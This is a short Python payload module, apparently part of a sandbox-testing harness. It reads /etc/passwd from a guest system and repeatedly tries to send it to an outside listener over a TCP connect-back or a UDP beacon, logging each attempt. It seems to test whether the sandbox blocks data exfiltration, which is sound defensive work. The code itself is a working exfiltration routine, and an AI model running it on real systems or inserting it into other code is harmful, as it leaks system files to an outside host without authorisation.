"""Connects back to an outside listener and ships guest data to it."""

import socket
import time

from plugcell.harness.payloads._common import attempt, duration, in_guest, report, target


def loot():
    try:
        with open(in_guest("/etc/passwd"), "rb") as f:
            return f.read()
    except OSError:
        return b"no-loot"


def connect_back(addr, data):
    with socket.create_connection(addr, timeout=1.5) as s:
        s.sendall(b"SHELL " + data)


def udp_beacon(addr, data):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"BEACON " + data[:512], addr)


if __name__ == "__main__":
    addr = target()
    data = loot()
    deadline = time.monotonic() + duration()
    tries = 0
    while time.monotonic() < deadline:
        tries += 1
        if attempt("connect-back", connect_back, addr, data, try_=tries):
            break
        attempt("udp-beacon", udp_beacon, addr, data, try_=tries)
        time.sleep(0.2)
    report("done", True, tries=tries)
